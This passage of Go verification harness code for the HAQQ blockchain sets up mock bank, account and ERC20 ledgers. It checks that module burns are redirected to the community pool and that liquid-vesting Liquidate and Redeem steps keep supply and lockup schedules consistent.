	if exists {
		ak.accs[string(to)] = authtypes.NewBaseAccount(to, &ethsecp256k1.PubKey{Key: make([]byte, 33)}, num, seq)
	}
	k := msgServer{WrappedBaseKeeper{Keeper: c10sBank{spendable: sdkmath.ZeroInt()}, ek: c10sEK{}, ak: ak}}
	err := k.sendCoinsWithERC20(env.Ctx, from, to, sdk.NewCoins(sdk.NewCoin(pair.Denom, amt)))
	zz.Assert(err == nil, "the send through an honest token succeeds")
	acc := ak.accs[string(to)]
	zz.Assert(acc != nil, "the recipient has an account afterwards")
	if exists {
		zz.Assert(acc.GetSequence() == seq && acc.GetAccountNumber() == num && acc.GetPubKey() != nil, "an existing recipient keeps its sequence, account number and key")
		zz.Reach("existing")
	} else {
		zz.Assert(acc.GetSequence() == 0, "a new recipient starts at sequence 0")
		zz.Reach("created")
	}
	zz.Reach("end")
}
