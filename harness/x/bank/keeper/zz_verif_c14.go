package keeper

// Harness for property C14 (slashing / deposit burns go to the community pool): the BurnCoins override.

import (
	"errors"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authkeeper "github.com/cosmos/cosmos-sdk/x/auth/keeper"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	bankkeeper "github.com/cosmos/cosmos-sdk/x/bank/keeper"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	distrtypes "github.com/cosmos/cosmos-sdk/x/distribution/types"

	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseSendKeeper).SendCoinsFromModuleToModule -> c14Send
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseKeeper).SendCoinsFromModuleToModule -> c14Send2
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseKeeper).BurnCoins -> c14Burn
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseSendKeeper).GetSendEnabledEntry -> c14SendEnabled
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseSendKeeper).IsSendEnabledDenom -> c14IsSendEnabledDenom
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseSendKeeper).IsSendEnabledCoin -> c14IsSendEnabledCoin
//verif:override (github.com/cosmos/cosmos-sdk/x/bank/keeper.BaseSendKeeper).IsSendEnabledCoins -> c14IsSendEnabledCoins

// denominations with an explicit SendEnabled=false entry (x/bank MsgSetSendEnabled): module-to-module moves ignore it
var c14Frozen = map[string]bool{}

func c14SendEnabled(k bankkeeper.BaseSendKeeper, ctx sdk.Context, denom string) (banktypes.SendEnabled, bool) {
	if c14Frozen[denom] {
		return banktypes.SendEnabled{Denom: denom, Enabled: false}, true
	}
	return banktypes.SendEnabled{}, false
}

// the other readers of the same entries (default: sending enabled)
func c14IsSendEnabledDenom(k bankkeeper.BaseSendKeeper, ctx sdk.Context, denom string) bool { return !c14Frozen[denom] }
func c14IsSendEnabledCoin(k bankkeeper.BaseSendKeeper, ctx sdk.Context, coin sdk.Coin) bool {
	return !c14Frozen[coin.Denom]
}
func c14IsSendEnabledCoins(k bankkeeper.BaseSendKeeper, ctx sdk.Context, coins ...sdk.Coin) error {
	for _, c := range coins {
		if c14Frozen[c.Denom] {
			return errors.New("send disabled for " + c.Denom)
		}
	}
	return nil
}

var c14Denoms = []string{"aISLM", "aLIQUID1"}
var c14Modules = []string{"gov", "bonded_tokens_pool", "not_bonded_tokens_pool", "distribution", "erc20", "coinomics"}

// c14State is the bank as the SDK contract describes it: sends conserve supply, burns reduce it, overdrafts are refused.
type c14State struct {
	bal    map[string]map[string]sdkmath.Int
	supply map[string]sdkmath.Int
}

var c14 *c14State

func (s *c14State) get(m, d string) sdkmath.Int {
	if x, ok := s.bal[m]; ok {
		if v, ok := x[d]; ok {
			return v
		}
	}
	return sdkmath.ZeroInt()
}
func (s *c14State) set(m, d string, v sdkmath.Int) {
	if _, ok := s.bal[m]; !ok {
		s.bal[m] = map[string]sdkmath.Int{}
	}
	s.bal[m][d] = v
}

func c14DoSend(from, to string, amt sdk.Coins) error {
	for _, d := range c14Denoms {
		if c14.get(from, d).LT(amt.AmountOf(d)) {
			return errors.New("insufficient funds")
		}
	}
	for _, d := range c14Denoms {
		c14.set(from, d, c14.get(from, d).Sub(amt.AmountOf(d)))
		c14.set(to, d, c14.get(to, d).Add(amt.AmountOf(d)))
	}
	return nil
}
func c14Send(k bankkeeper.BaseSendKeeper, ctx sdk.Context, from, to string, amt sdk.Coins) error {
	return c14DoSend(from, to, amt)
}
func c14Send2(k bankkeeper.BaseKeeper, ctx sdk.Context, from, to string, amt sdk.Coins) error {
	return c14DoSend(from, to, amt)
}
func c14Burn(k bankkeeper.BaseKeeper, ctx sdk.Context, module string, amt sdk.Coins) error {
	for _, d := range c14Denoms {
		if c14.get(module, d).LT(amt.AmountOf(d)) {
			return errors.New("insufficient funds")
		}
	}
	for _, d := range c14Denoms {
		c14.set(module, d, c14.get(module, d).Sub(amt.AmountOf(d)))
		c14.supply[d] = c14.supply[d].Sub(amt.AmountOf(d))
	}
	return nil
}

// VerifC14_Burn: one BurnCoins call by an arbitrary module with an arbitrary amount from an arbitrary state.
func VerifC14_Burn() {
	env := zz.NewEnv([]string{"acc", "bank", "distribution"}, nil)
	ctx := env.Ctx
	cdc := zz.Codec()
	k := BaseKeeper{distrStoreKey: env.Key("distribution"), cdc: cdc}
	// pre-state: arbitrary module balances, supply = sum of balances + an arbitrary remainder held by ordinary accounts
	pre := map[string]map[string]sdkmath.Int{}
	for _, m := range c14Modules {
		pre[m] = map[string]sdkmath.Int{}
		for _, d := range c14Denoms {
			pre[m][d] = zz.AnyAmount("bal."+m+"."+d, 100)
		}
	}
	var native *bankkeeper.BaseKeeper
	if zz.Native() {
		perms := map[string][]string{}
		for _, m := range c14Modules {
			perms[m] = []string{authtypes.Minter, authtypes.Burner}
		}
		authority := authtypes.NewModuleAddress("gov").String()
		ak := authkeeper.NewAccountKeeper(cdc, env.Key("acc"), authtypes.ProtoBaseAccount, perms, sdk.Bech32MainPrefix, authority)
		bk := bankkeeper.NewBaseKeeper(cdc, env.Key("bank"), ak, map[string]bool{}, authority)
		native = &bk
		k.BaseKeeper = bk
		for _, m := range c14Modules {
			for _, d := range c14Denoms {
				if pre[m][d].IsPositive() {
					if err := bk.MintCoins(ctx, m, sdk.NewCoins(sdk.NewCoin(d, pre[m][d]))); err != nil {
						panic(err)
					}
				}
			}
		}
	} else {
		c14 = &c14State{bal: map[string]map[string]sdkmath.Int{}, supply: map[string]sdkmath.Int{}}
		for _, d := range c14Denoms {
			c14.supply[d] = sdkmath.ZeroInt()
		}
		for _, m := range c14Modules {
			for _, d := range c14Denoms {
				c14.set(m, d, pre[m][d])
				c14.supply[d] = c14.supply[d].Add(pre[m][d])
			}
		}
	}
	c14Frozen = map[string]bool{}
	for _, d := range c14Denoms {
		if zz.AnyBool("sendDisabled." + d) {
			c14Frozen[d] = true
			if native != nil {
				native.SetSendEnabled(ctx, d, false)
			}
		}
	}
	bal := func(m, d string) sdkmath.Int {
		if native != nil {
			return native.GetBalance(ctx, authtypes.NewModuleAddress(m), d).Amount
		}
		return c14.get(m, d)
	}
	supply := func(d string) sdkmath.Int {
		if native != nil {
			return native.GetSupply(ctx, d).Amount
		}
		return c14.supply[d]
	}
	pool0 := zz.AnyDecCoins("pool", 160, c14Denoms...)
	ctx.MultiStore().GetKVStore(env.Key("distribution")).Set(distrtypes.FeePoolKey, cdc.MustMarshal(&distrtypes.FeePool{CommunityPool: pool0}))
	readPool := func() sdk.DecCoins {
		var fp distrtypes.FeePool
		cdc.MustUnmarshal(ctx.MultiStore().GetKVStore(env.Key("distribution")).Get(distrtypes.FeePoolKey), &fp)
		return fp.CommunityPool
	}
	supply0 := map[string]sdkmath.Int{}
	for _, d := range c14Denoms {
		supply0[d] = supply(d)
	}
	module := c14Modules[zz.Choose("module", len(c14Modules))]
	amt := zz.AnyCoins("amount", 100, c14Denoms...)

	err := k.BurnCoins(ctx, module, amt)

	pool1 := readPool()
	redirected := module == "gov" || module == "bonded_tokens_pool" || module == "not_bonded_tokens_pool"
	for _, d := range c14Denoms {
		zz.ObserveInt("supply."+d, supply(d))
		zz.ObserveDec("pool."+d, pool1.AmountOf(d))
	}
	if err != nil {
		for _, d := range c14Denoms {
			zz.Assert(supply(d).Equal(supply0[d]), "a failed burn leaves the supply unchanged")
			zz.Assert(pool1.AmountOf(d).Equal(pool0.AmountOf(d)), "a failed burn leaves the community pool unchanged")
			for _, m := range c14Modules {
				zz.Assert(bal(m, d).Equal(pre[m][d]), "a failed burn leaves every module balance unchanged")
			}
		}
		zz.Reach("rejected")
		return
	}
	for _, d := range c14Denoms {
		a := amt.AmountOf(d)
		if redirected {
			zz.Assert(supply(d).Equal(supply0[d]), "coins that staking / gov would destroy stay in circulation")
			zz.Assert(pool1.AmountOf(d).Equal(pool0.AmountOf(d).Add(sdkmath.LegacyNewDecFromInt(a))), "the community pool grows by exactly the amount")
			zz.Assert(bal("distribution", d).Equal(pre["distribution"][d].Add(a)), "the distribution module account holds the matching coins")
			zz.Assert(bal(module, d).Equal(pre[module][d].Sub(a)), "the source pool is debited by exactly the amount")
		} else {
			zz.Assert(supply(d).Equal(supply0[d].Sub(a)), "burns by other modules keep their normal meaning (supply shrinks)")
			zz.Assert(pool1.AmountOf(d).Equal(pool0.AmountOf(d)), "burns by other modules do not touch the community pool")
			zz.Assert(bal(module, d).Equal(pre[module][d].Sub(a)), "the burning module is debited by exactly the amount")
		}
		for _, m := range c14Modules {
			if m != module && !(redirected && m == "distribution") {
				zz.Assert(bal(m, d).Equal(pre[m][d]), "no other module account changes")
			}
		}
	}
	if redirected {
		zz.Reach("redirected")
	} else {
		zz.Reach("burned")
	}
	zz.Reach("end")
}
