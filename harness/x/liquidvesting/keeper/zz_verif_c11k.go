package keeper

// Harnesses for property C11 at keeper level: one Liquidate / Redeem step from an arbitrary module state that satisfies
// the backing invariant (inductive step). The bank, account and ERC20 keepers are small ledgers behind the keeper's own
// interfaces; the vesting keeper is the real one (ApplyVestingSchedule / addGrant), with the SDK staking keeper's three
// read-only getters overridden.

import (
	"context"
	"errors"
	"math/big"
	"time"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	sdkvesting "github.com/cosmos/cosmos-sdk/x/auth/vesting/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	stakingkeeper "github.com/cosmos/cosmos-sdk/x/staking/keeper"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	haqqtypes "github.com/haqq-network/haqq/types"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	"github.com/haqq-network/haqq/x/liquidvesting/types"
	vestingkeeper "github.com/haqq-network/haqq/x/vesting/keeper"
	vestingtypes "github.com/haqq-network/haqq/x/vesting/types"
	zz "github.com/haqq-network/haqq/zzverif"
)

//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegatorBonded -> c11Bonded
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).GetDelegatorUnbonding -> c11Unbonding
//verif:override (github.com/cosmos/cosmos-sdk/x/staking/keeper.Keeper).BondDenom -> c11BondDenom

func c11Bonded(k stakingkeeper.Keeper, ctx sdk.Context, d sdk.AccAddress) sdkmath.Int    { return sdk.ZeroInt() }
func c11Unbonding(k stakingkeeper.Keeper, ctx sdk.Context, d sdk.AccAddress) sdkmath.Int { return sdk.ZeroInt() }
func c11BondDenom(k stakingkeeper.Keeper, ctx sdk.Context) string                        { return "aISLM" }

const c11Liquid = "aLIQUID0" // the liquid denomination that exists in the pre-state

var (
	c11Holder = sdk.AccAddress(common.HexToAddress("0x1000000000000000000000000000000000000001").Bytes())
	c11Target = sdk.AccAddress(common.HexToAddress("0x2000000000000000000000000000000000000002").Bytes())
	c11Funder = sdk.AccAddress(common.HexToAddress("0x3000000000000000000000000000000000000003").Bytes())
	c11Token  = common.HexToAddress("0xE000000000000000000000000000000000000001")
	c11Token2 = common.HexToAddress("0xE000000000000000000000000000000000000002")
)

// ---- ledgers ---------------------------------------------------------------------------------------------------------

type c11Bank struct {
	bal    map[string]sdkmath.Int // "addr/denom"
	supply map[string]sdkmath.Int
	ak     *c11AK
	now    time.Time
}

func (b *c11Bank) get(a sdk.AccAddress, d string) sdkmath.Int {
	if v, ok := b.bal[string(a)+"/"+d]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (b *c11Bank) sup(d string) sdkmath.Int {
	if v, ok := b.supply[d]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (b *c11Bank) move(from, to sdk.AccAddress, amt sdk.Coins) error {
	for _, c := range amt {
		have := b.get(from, c.Denom)
		// the real bank refuses to go below the locked amount of a vesting account
		locked := sdk.ZeroInt()
		if va, ok := b.ak.accs[string(from)].(*vestingtypes.ClawbackVestingAccount); ok {
			locked = va.LockedCoins(b.now).AmountOf(c.Denom)
		}
		if have.Sub(locked).LT(c.Amount) {
			return errors.New("insufficient spendable funds")
		}
		b.bal[string(from)+"/"+c.Denom] = have.Sub(c.Amount)
		b.bal[string(to)+"/"+c.Denom] = b.get(to, c.Denom).Add(c.Amount)
	}
	return nil
}
func mod(name string) sdk.AccAddress { return authtypes.NewModuleAddress(name) }

func (b *c11Bank) BlockedAddr(addr sdk.AccAddress) bool { return false }
func (b *c11Bank) SendCoinsFromModuleToAccount(ctx sdk.Context, m string, to sdk.AccAddress, amt sdk.Coins) error {
	return b.move(mod(m), to, amt)
}
func (b *c11Bank) SendCoinsFromAccountToModule(ctx sdk.Context, from sdk.AccAddress, m string, amt sdk.Coins) error {
	return b.move(from, mod(m), amt)
}
func (b *c11Bank) HasBalance(ctx sdk.Context, addr sdk.AccAddress, amt sdk.Coin) bool {
	return b.get(addr, amt.Denom).GTE(amt.Amount)
}
func (b *c11Bank) GetBalance(ctx sdk.Context, addr sdk.AccAddress, denom string) sdk.Coin {
	return sdk.NewCoin(denom, b.get(addr, denom))
}
func (b *c11Bank) BurnCoins(ctx sdk.Context, m string, amt sdk.Coins) error {
	for _, c := range amt {
		have := b.get(mod(m), c.Denom)
		if have.LT(c.Amount) {
			return errors.New("insufficient funds to burn")
		}
		b.bal[string(mod(m))+"/"+c.Denom] = have.Sub(c.Amount)
		b.supply[c.Denom] = b.sup(c.Denom).Sub(c.Amount)
	}
	return nil
}
func (b *c11Bank) MintCoins(ctx sdk.Context, m string, amt sdk.Coins) error {
	for _, c := range amt {
		b.bal[string(mod(m))+"/"+c.Denom] = b.get(mod(m), c.Denom).Add(c.Amount)
		b.supply[c.Denom] = b.sup(c.Denom).Add(c.Amount)
	}
	return nil
}
func (b *c11Bank) GetDenomMetaData(ctx sdk.Context, denom string) (banktypes.Metadata, bool) {
	return banktypes.Metadata{}, false
}
func (b *c11Bank) SetDenomMetaData(ctx sdk.Context, m banktypes.Metadata) {}

// vesting keeper's bank interface
func (b *c11Bank) GetAllBalances(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }
func (b *c11Bank) SendCoins(ctx sdk.Context, from, to sdk.AccAddress, amt sdk.Coins) error {
	return b.move(from, to, amt)
}
func (b *c11Bank) SpendableCoins(ctx sdk.Context, addr sdk.AccAddress) sdk.Coins { panic("not used") }

type c11AK struct{ accs map[string]authtypes.AccountI }

func (a *c11AK) GetAccount(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	if x, ok := a.accs[string(addr)]; ok {
		return x
	}
	return nil
}
func (a *c11AK) SetAccount(ctx sdk.Context, acc authtypes.AccountI) { a.accs[string(acc.GetAddress())] = acc }
func (a *c11AK) NewAccount(ctx sdk.Context, acc authtypes.AccountI) authtypes.AccountI { return acc }
func (a *c11AK) GetModuleAddress(name string) sdk.AccAddress                         { return mod(name) }
func (a *c11AK) GetAllAccounts(ctx sdk.Context) []authtypes.AccountI                  { panic("not used") }
func (a *c11AK) GetModuleAccount(ctx sdk.Context, n string) authtypes.ModuleAccountI  { panic("not used") }
func (a *c11AK) NewAccountWithAddress(ctx sdk.Context, addr sdk.AccAddress) authtypes.AccountI {
	panic("not used")
}
func (a *c11AK) IterateAccounts(ctx sdk.Context, process func(authtypes.AccountI) bool) { panic("not used") }
func (a *c11AK) RemoveAccount(ctx sdk.Context, acc authtypes.AccountI)                  { panic("not used") }

// c11ERC20: the registered pair of the liquid denomination; conversion escrows coins in the erc20 module 1:1.
type c11ERC20 struct {
	bank     *c11Bank
	tokens   map[string]sdkmath.Int // ERC20 balances by "holder/denom"
	pairs    map[string]*erc20types.TokenPair
	byAddr   map[string]string // contract address -> denom
	convFail bool
}

func (e *c11ERC20) ToggleConversion(ctx sdk.Context, token string) (erc20types.TokenPair, error) {
	p, ok := e.pairs[token]
	if !ok {
		return erc20types.TokenPair{}, errors.New("no pair")
	}
	p.Enabled = !p.Enabled
	return *p, nil
}
func (e *c11ERC20) GetTokenPairID(ctx sdk.Context, token string) []byte {
	if _, ok := e.pairs[token]; ok {
		return []byte(token)
	}
	return nil
}
func (e *c11ERC20) GetTokenPair(ctx sdk.Context, id []byte) (erc20types.TokenPair, bool) {
	p, ok := e.pairs[string(id)]
	if !ok {
		return erc20types.TokenPair{}, false
	}
	return *p, true
}
func (e *c11ERC20) tok(a sdk.AccAddress, denom string) sdkmath.Int {
	if v, ok := e.tokens[string(a)+"/"+denom]; ok {
		return v
	}
	return sdk.ZeroInt()
}
func (e *c11ERC20) BalanceOf(ctx sdk.Context, _ abi.ABI, contract, account common.Address) *big.Int {
	return e.tok(sdk.AccAddress(account.Bytes()), e.byAddr[contract.Hex()]).BigInt()
}
func (e *c11ERC20) ConvertCoin(goCtx context.Context, msg *erc20types.MsgConvertCoin) (*erc20types.MsgConvertCoinResponse, error) {
	if e.convFail {
		return nil, errors.New("conversion failed")
	}
	from := sdk.MustAccAddressFromBech32(msg.Sender)
	if err := e.bank.move(from, mod("erc20"), sdk.NewCoins(msg.Coin)); err != nil {
		return nil, err
	}
	to := sdk.AccAddress(common.HexToAddress(msg.Receiver).Bytes())
	e.tokens[string(to)+"/"+msg.Coin.Denom] = e.tok(to, msg.Coin.Denom).Add(msg.Coin.Amount)
	return &erc20types.MsgConvertCoinResponse{}, nil
}
func (e *c11ERC20) ConvertERC20(goCtx context.Context, msg *erc20types.MsgConvertERC20) (*erc20types.MsgConvertERC20Response, error) {
	if e.convFail {
		return nil, errors.New("conversion failed")
	}
	from := sdk.AccAddress(common.HexToAddress(msg.Sender).Bytes())
	denom := e.byAddr[common.HexToAddress(msg.ContractAddress).Hex()]
	if e.tok(from, denom).LT(msg.Amount) {
		return nil, errors.New("insufficient token balance")
	}
	e.tokens[string(from)+"/"+denom] = e.tok(from, denom).Sub(msg.Amount)
	to := sdk.MustAccAddressFromBech32(msg.Receiver)
	if err := e.bank.move(mod("erc20"), to, sdk.NewCoins(sdk.NewCoin(denom, msg.Amount))); err != nil {
		return nil, err
	}
	return &erc20types.MsgConvertERC20Response{}, nil
}
func (e *c11ERC20) RegisterCoin(ctx sdk.Context, md banktypes.Metadata) (*erc20types.TokenPair, error) {
	p := &erc20types.TokenPair{Erc20Address: c11Token2.Hex(), Denom: md.Base, Enabled: true, ContractOwner: erc20types.OWNER_MODULE}
	e.pairs[md.Base] = p
	e.byAddr[c11Token2.Hex()] = md.Base
	return p, nil
}

// ---- world -----------------------------------------------------------------------------------------------------------

type c11World struct {
	k    Keeper
	ctx  sdk.Context
	bank *c11Bank
	ak   *c11AK
	erc  *c11ERC20
}

const (
	c11MaxStart = int64(1) << 40
	c11MaxLen   = int64(1) << 36
)

func c11Periods(tag string, n int, denom string) sdkvesting.Periods {
	ps := make(sdkvesting.Periods, 0, n)
	for i := 0; i < n; i++ {
		t := tag + string(rune('0'+i))
		ps = append(ps, sdkvesting.Period{Length: zz.AnyInt64In(t+".len", 1, c11MaxLen), Amount: sdk.NewCoins(sdk.NewCoin(denom, zz.AnyAmount(t+".amt", 100)))})
	}
	return ps
}

// c11NewWorld builds a module state with one existing liquid denomination (aLIQUID0, counter = 1) whose schedule sums to its
// supply, held partly as coins and partly as ERC20 tokens by the holder, and backed by exactly that many aISLM in the module
// account (plus an arbitrary surplus, which no rule forbids).
func c11NewWorld(now int64, nDenom int) (*c11World, types.Denom) {
	env := zz.NewEnv([]string{"liquidvesting", "vesting"}, nil)
	ctx := env.Ctx.WithBlockTime(time.Unix(now, 0))
	ak := &c11AK{accs: map[string]authtypes.AccountI{}}
	bank := &c11Bank{bal: map[string]sdkmath.Int{}, supply: map[string]sdkmath.Int{}, ak: ak, now: time.Unix(now, 0)}
	erc := &c11ERC20{bank: bank, tokens: map[string]sdkmath.Int{}, pairs: map[string]*erc20types.TokenPair{}, byAddr: map[string]string{c11Token.Hex(): c11Liquid}}
	vk := vestingkeeper.NewKeeper(env.Key("vesting"), zz.Codec(), ak, bank, stakingkeeper.Keeper{})
	ps := zz.NewSubspace(env, "liquidvesting", types.ParamKeyTable)
	k := NewKeeper(env.Key("liquidvesting"), zz.Codec(), ps, ak, bank, erc, vk)
	minLiq := zz.AnyAmount("minLiquidation", 64)
	zz.Assume(minLiq.IsPositive())
	if err := k.SetParams(ctx, types.NewParams(minLiq, true)); err != nil {
		panic(err)
	}
	dStart := zz.AnyInt64In("denom.start", 0, c11MaxStart)
	dPeriods := c11Periods("denom.p", nDenom, "aISLM")
	d := types.Denom{BaseDenom: c11Liquid, DisplayDenom: "LIQUID0", OriginalDenom: "aISLM", StartTime: time.Unix(dStart, 0),
		EndTime: time.Unix(dStart+dPeriods.TotalLength(), 0), LockupPeriods: dPeriods}
	k.SetDenom(ctx, d)
	k.SetDenomCounter(ctx, 1)
	sup := dPeriods.TotalAmount().AmountOf("aISLM")
	zz.Assume(sup.IsPositive())
	asTokens := zz.AnyAmount("holder.tokens", 101)
	zz.Assume(asTokens.LTE(sup))
	bank.supply[c11Liquid] = sup
	bank.bal[string(c11Holder)+"/"+c11Liquid] = sup.Sub(asTokens)
	bank.bal[string(mod("erc20"))+"/"+c11Liquid] = asTokens
	erc.tokens[string(c11Holder)+"/"+c11Liquid] = asTokens
	erc.pairs[c11Liquid] = &erc20types.TokenPair{Erc20Address: c11Token.Hex(), Denom: c11Liquid, Enabled: true, ContractOwner: erc20types.OWNER_MODULE}
	bank.bal[string(mod(types.ModuleName))+"/aISLM"] = sup.Add(zz.AnyAmount("module.surplus", 64))
	return &c11World{k: k, ctx: ctx, bank: bank, ak: ak, erc: erc}, d
}

func (w *c11World) backing() sdkmath.Int { return w.bank.get(mod(types.ModuleName), "aISLM") }

// sumOfSchedules: sum over stored liquid denominations of their recorded schedule totals, asserting each equals its supply.
func (w *c11World) checkInvariant(surplus sdkmath.Int, where string) {
	total := sdk.ZeroInt()
	for _, d := range w.k.GetAllDenoms(w.ctx) {
		s := d.LockupPeriods.TotalAmount().AmountOf(d.OriginalDenom)
		zz.Assert(s.Equal(w.bank.sup(d.BaseDenom)), "recorded schedule of a liquid token sums to its supply ("+where+")")
		zz.Assert(d.EndTime.Unix() == d.StartTime.Unix()+d.LockupPeriods.TotalLength(), "recorded end time = start + total length ("+where+")")
		total = total.Add(s)
	}
	// a denomination that is not recorded any more must have no supply
	for _, dn := range []string{c11Liquid, "aLIQUID1"} {
		if _, found := w.k.GetDenom(w.ctx, dn); !found {
			zz.Assert(w.bank.sup(dn).IsZero(), "a liquid token without a recorded schedule has no supply ("+where+")")
		}
	}
	zz.Assert(w.backing().Equal(total.Add(surplus)), "module escrow = total liquid supply (+ the initial surplus) ("+where+")")
}

// lockedUpAt evaluates the account's lockup schedule at an arbitrary instant through the real account code.
func c11LockedUp(acc authtypes.AccountI, t int64) sdkmath.Int {
	if va, ok := acc.(*vestingtypes.ClawbackVestingAccount); ok {
		return va.GetLockedUpCoins(time.Unix(t, 0)).AmountOf("aISLM")
	}
	return sdk.ZeroInt()
}

// VerifC11_LiquidateStep: Liquidate from a clawback account with an arbitrary fully vested lockup schedule.
func VerifC11_LiquidateStep() {
	n := zz.ParamInt("periods", 2)
	now := zz.AnyInt64In("now", 1, c11MaxStart+3*c11MaxLen)
	w, _ := c11NewWorld(now, 1)
	surplus := w.backing().Sub(w.bank.sup(c11Liquid))

	start := zz.AnyInt64In("acc.start", 0, c11MaxStart)
	lockup := c11Periods("acc.p", n, "aISLM")
	other := zz.ParamInt("otherDenom", 0) == 1
	if other {
		// the grant also vests a second denomination (only aISLM can be liquidated; the rest of the account must be left alone)
		for i := range lockup {
			lockup[i].Amount = lockup[i].Amount.Add(sdk.NewCoin("afoo", zz.AnyAmount("acc.p"+string(rune('0'+i))+".afoo", 100)))
		}
	}
	ov := lockup.TotalAmount()
	vest := sdkvesting.Periods{{Length: 0, Amount: ov}} // everything vested at start: nothing unvested, as Liquidate requires
	ch := common.Hash{}
	va := vestingtypes.NewClawbackVestingAccount(authtypes.NewBaseAccountWithAddress(c11Holder), c11Funder, ov, time.Unix(start, 0), lockup, vest, &ch)
	zz.Assume(va.Validate() == nil)
	w.ak.accs[string(c11Holder)] = va
	free := zz.AnyAmount("holder.free", 100)
	w.bank.bal[string(c11Holder)+"/aISLM"] = ov.AmountOf("aISLM").Add(free)
	toSelf := zz.AnyBool("toSelf")
	to := c11Holder
	if !toSelf {
		to = c11Target
	}
	amount := zz.AnyAmount("amount", 100)
	w.erc.convFail = zz.AnyBool("erc20ConversionFails")

	// observation instants for the schedule comparison
	t := zz.AnyInt64In("t", 0, c11MaxStart+4*c11MaxLen)
	lockedBefore := c11LockedUp(va, t)
	lockedNowBefore := c11LockedUp(va, now)
	holderBefore := w.bank.get(c11Holder, "aISLM")

	_, err := w.k.Liquidate(sdk.WrapSDKContext(w.ctx), types.NewMsgLiquidate(c11Holder, to, sdk.NewCoin("aISLM", amount)))
	if err != nil {
		// a failed message is rolled back by the caller (cache context): nothing to compare
		zz.Reach("rejected")
		return
	}
	zz.Reach("liquidated")
	zz.Assert(amount.LTE(lockedNowBefore), "only coins that are still locked can be liquidated")
	zz.Assert(w.bank.get(c11Holder, "aISLM").Equal(holderBefore.Sub(amount)), "the holder pays exactly the liquidated amount")
	d, found := w.k.GetDenom(w.ctx, "aLIQUID1")
	zz.Assert(found, "the new liquid denomination is recorded")
	zz.Assert(w.bank.sup("aLIQUID1").Equal(amount), "liquid supply minted = requested amount")
	recv := sdk.AccAddress(to)
	zz.Assert(w.erc.tok(recv, "aLIQUID1").Add(w.bank.get(recv, "aLIQUID1")).Equal(amount), "the recipient receives exactly the liquid amount")
	w.checkInvariant(surplus, "after liquidate")

	// schedule exactness over time: what the account still locks at t plus what the liquid token still locks at t equals
	// what the account locked at t before (for every t at or after the block time; earlier instants are history).
	after := w.ak.accs[string(c11Holder)]
	lockedAfter := c11LockedUp(after, t)
	liquidLocked := sdk.ZeroInt()
	{
		rel := d.StartTime.Unix()
		for _, p := range d.LockupPeriods {
			rel += p.Length
			if rel > t {
				liquidLocked = liquidLocked.Add(p.Amount.AmountOf("aISLM"))
			}
		}
	}
	zz.ObserveInt("lockedAfter", lockedAfter)
	zz.ObserveInt("liquidLocked", liquidLocked)
	if t >= now {
		zz.Assert(lockedAfter.Add(liquidLocked).Equal(lockedBefore), "account lockup + liquid token lockup = original lockup at every later instant")
	}
	if av, ok := after.(*vestingtypes.ClawbackVestingAccount); ok {
		zz.Assert(av.OriginalVesting.AmountOf("aISLM").Equal(ov.AmountOf("aISLM").Sub(amount)), "original vesting reduced by the liquidated amount")
		zz.Assert(av.LockupPeriods.TotalAmount().AmountOf("aISLM").Equal(av.OriginalVesting.AmountOf("aISLM")), "remaining lockup schedule sums to the remaining grant")
		zz.Assert(av.VestingPeriods.TotalAmount().AmountOf("aISLM").Equal(av.OriginalVesting.AmountOf("aISLM")), "remaining vesting schedule sums to the remaining grant")
		if other {
			zz.Assert(av.OriginalVesting.AmountOf("afoo").Equal(ov.AmountOf("afoo")), "a liquidation leaves the other denominations of the grant as they were")
			zz.Assert(av.LockupPeriods.TotalAmount().AmountOf("afoo").Equal(ov.AmountOf("afoo")) && av.VestingPeriods.TotalAmount().AmountOf("afoo").Equal(ov.AmountOf("afoo")),
				"a liquidation leaves the other denominations of both schedules as they were")
			zz.Assert(av.Validate() == nil, "the account a liquidation leaves behind is valid")
		}
	} else {
		zz.Assert(false, "the account stays a clawback vesting account")
	}
	zz.Reach("end")
}

// VerifC11_RedeemStep: Redeem part or all of the existing liquid denomination to a plain EVM account, to an existing clawback
// account, or to oneself.
func VerifC11_RedeemStep() {
	nd := zz.ParamInt("denomPeriods", 2)
	now := zz.AnyInt64In("now", 1, c11MaxStart+3*c11MaxLen)
	w, d0 := c11NewWorld(now, nd)
	surplus := w.backing().Sub(w.bank.sup(c11Liquid))
	supBefore := w.bank.sup(c11Liquid)

	w.ak.accs[string(c11Holder)] = &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(c11Holder), CodeHash: common.Hash{}.Hex()}
	var to sdk.AccAddress
	rcp := zz.ParamInt("recipient", -1)
	if rcp < 0 {
		rcp = zz.Choose("recipient", 3)
	}
	switch rcp {
	case 0: // oneself, a plain EVM account
		to = c11Holder
	case 1: // another plain EVM account
		to = c11Target
		w.ak.accs[string(c11Target)] = &haqqtypes.EthAccount{BaseAccount: authtypes.NewBaseAccountWithAddress(c11Target), CodeHash: common.Hash{}.Hex()}
	default: // an existing clawback vesting account with its own schedule
		to = c11Target
		st := zz.AnyInt64In("to.start", 0, c11MaxStart)
		lk := c11Periods("to.p", zz.ParamInt("toPeriods", 1), "aISLM")
		ov := lk.TotalAmount()
		ch := common.Hash{}
